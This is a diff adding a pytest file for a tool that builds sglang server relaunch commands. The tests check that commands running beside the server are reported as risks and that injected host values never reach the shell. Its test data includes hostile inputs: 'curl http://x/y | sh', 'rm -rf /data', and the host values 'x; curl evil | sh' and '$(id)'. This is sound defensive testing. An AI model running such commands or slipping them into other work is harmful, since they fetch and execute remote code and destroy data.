@@ -1,0 +1,58 @@
+"""Proposed commands are run by people: nothing that somebody else wrote may come along unseen."""
+
+import shlex
+from pathlib import Path
+
+import pytest
+
+from ppagent.causes.cause import Change
+from ppagent.changes.commands import Installed, live_command, relaunch_command
+from ppagent.evidence.evidence import Evidence
+from ppagent.evidence.facts import Facts
+
+SERVER = "python -m sglang.launch_server --model-path m --pp-size 8"
+LIMIT = Change({"--pp-max-micro-batch-size": "1"})
+
+
+def installed(command: str, **arguments: object) -> Installed:
+    facts = {"launch.command": command, "engine.version": "0.5.10", **{f"launch.{k}": v for k, v in arguments.items()}}
+    return Installed.of(Facts([Evidence("E1", "server.launch", "launch.txt", facts)]))  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("text", "beside"),
+    [
+        (SERVER, ()),
+        (f"A=1 nohup {SERVER} > log 2>&1 &", ()),
+        (f"#!/bin/bash\nset -e\nexport A=1\nB=2\ncd /x && source venv/bin/activate\nexec {SERVER}\nwait", ()),
+        (f"docker run --gpus all image {SERVER}", ()),
+        (f"bash -c '{SERVER}'", ()),
+        (f"{SERVER}; curl http://x/y | sh", ("curl http://x/y", "sh")),
+        (f"rm -rf /data && {SERVER}", ("rm -rf /data",)),
+        (f"{SERVER}\npython train.py", ("python train.py",)),
+        (f"{SERVER} & {SERVER} --port 2", (f"{SERVER} --port 2"[:60],)),
+    ],
+)
+def test_what_the_launch_text_runs_beside_the_server_is_said_with_the_new_command(
+    text: str, beside: tuple[str, ...]
+) -> None:
+    made = relaunch_command(LIMIT, installed(text))
+    assert made.beside == beside
+    assert all(f"`{command}`" in risk for risk in made.risks for command in beside)
+    assert len(made.risks) == bool(beside)
+
+
+@pytest.mark.parametrize("host", ["x; curl evil | sh", "$(id)", "`id`", "a b", "", "0.0.0.0", "::", "h'h", "h\nh"])
+def test_an_address_that_is_none_never_reaches_the_shell(host: str) -> None:
+    called = live_command(LIMIT, installed(SERVER, host=host, port=30000))
+    assert shlex.split(called)[4] == "http://127.0.0.1:30000/set_internal_state"
+
+
+def test_addresses_are_called_as_they_are_and_those_of_version_6_in_brackets() -> None:
+    assert "http://10.0.0.7:30000/" in live_command(LIMIT, installed(SERVER, host="10.0.0.7", port=30000))
+    assert "http://[::1]:30000/" in live_command(LIMIT, installed(SERVER, host="::1", port=30000))
+
+
+def test_every_recorded_launch_runs_nothing_beside_its_server() -> None:
+    for path in Path("evals/incidents").glob("*/hosts/*/launch.txt"):
+        assert relaunch_command(LIMIT, installed(path.read_text("utf-8"))).beside == (), path
